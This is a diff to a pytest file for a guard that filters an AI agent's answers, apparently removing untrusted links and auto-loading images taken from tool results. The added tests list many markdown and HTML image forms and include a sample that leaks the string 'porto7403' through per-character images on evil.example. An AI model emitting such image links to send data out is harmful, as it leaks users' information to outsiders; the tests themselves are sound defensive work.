@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import time
+from dataclasses import replace
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -23,12 +26,12 @@ SHOP, STRANGER = "https://shop.example", "https://stranger.example/p.png"
 CONTEXT = GuardContext(agent="desk", user_text=f"I was at {SHOP} before", results=(f"note: see {STRANGER} please",))
 
 
-async def shown(answer: str) -> str:
+async def shown(answer: str, context: GuardContext = CONTEXT) -> str:
     """What is left of an answer, which must be the same for a stream."""
-    guard = Guard(parse_policy(POLICY))
-    stream = guard.stream(CONTEXT)
+    guard, context = Guard(parse_policy(POLICY)), replace(context, memo={})
+    stream = guard.stream(context)
     streamed = "".join([*(stream.push(sign) for sign in answer), stream.finish()])
-    final = (await guard.check(Subject(Stage.FINAL, answer, CONTEXT))).text
+    final = (await guard.check(Subject(Stage.FINAL, answer, context))).text
     assert streamed == final
     return final
 
@@ -37,13 +40,45 @@ async def shown(answer: str) -> str:
     "answer",
     [
         STRANGER, f"see {STRANGER}.", f"({STRANGER})", f"**{STRANGER}**", f"<{STRANGER}>", f"[it]({STRANGER})",
-        f'![it]({STRANGER} "title")', f"[it]({STRANGER}), and more", f'<img src="{STRANGER}" alt="it">',
-        f"<a href={STRANGER}>it</a>", f"[it]: {STRANGER}\n", f"{STRANGER}\nnext", f"{SHOP}/any?page=1#part",
+        f'[it]({STRANGER} "title")', f"[it]({STRANGER}), and more", f'<a href="{STRANGER}">it</a>',
+        f"<a href={STRANGER}>it</a>", f"{STRANGER}\nnext", f"{SHOP}/any?page=1#part",
         f"[a]({SHOP}/a)[b]({SHOP}/b)", f"{SHOP}/it's", f"<{SHOP}/a b>",
     ],
 )  # fmt: skip
 async def test_a_link_that_somebody_vouches_for_stays(answer: str) -> None:
     assert await shown(answer) == answer
+
+
+IMAGES = [
+    "![it](LINK)", "![it](<LINK>)", '![it](LINK "title")', "![a [b] c](LINK)", "[![it](LINK)](SHOP)",
+    '<img src="LINK" alt="it">', "<img src=LINK>", "<img src = 'LINK'>", "<div style='background: url(LINK)'>",
+    "![it][1]\n\n[1]: LINK\n", f"![{'x' * 600}](LINK)", '<body background="LINK">', "<a data-href=LINK>",
+    "<svg><image href=LINK /></svg>", "<link href=LINK>",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("form", IMAGES)
+async def test_what_loads_by_itself_stays_if_a_trusted_result_has_it(form: str) -> None:
+    """One of a stranger may be one of many, of which the answer's choice spells out what was read."""
+    answer = form.replace("LINK", STRANGER).replace("SHOP", SHOP)
+    assert "stranger.example" not in await shown(answer)
+    assert await shown(answer, replace(CONTEXT, trusted_results=CONTEXT.results, written_before=(0,))) == answer
+
+
+async def test_images_of_a_strangers_alphabet_spell_nothing() -> None:
+    letters = {sign: f"https://evil.example/x/{sign}.png" for sign in "abcdefghijklmnopqrstuvwxyz0123456789"}
+    page = "Icons: " + " ".join(f"![{sign}]({link})" for sign, link in letters.items())
+    answer = "Here you are. " + " ".join(f"![]({letters[sign]})" for sign in "porto7403")
+    assert "evil.example" not in await shown(answer, replace(CONTEXT, results=(page,)))
+
+
+@pytest.mark.parametrize("text", ["https://e.io/ab ", "https://e.io/ab", "https://", "http://a.b/", "www.a", "//a"])
+async def test_a_page_of_nothing_but_links_holds_nobody_up(text: str) -> None:
+    page = (text * 65536)[:65536]
+    context = replace(CONTEXT, results=(page,) * 16)
+    began = time.thread_time()
+    await shown(" ".join(["https://e.io/a"] * 40), context)
+    assert time.thread_time() - began < 3
 
 
 @pytest.mark.parametrize("behind", ["'", "{", "|", "^", "`", "}", "]", ")", " ", "\n", "\\", ",", "(", "((", ".)"])
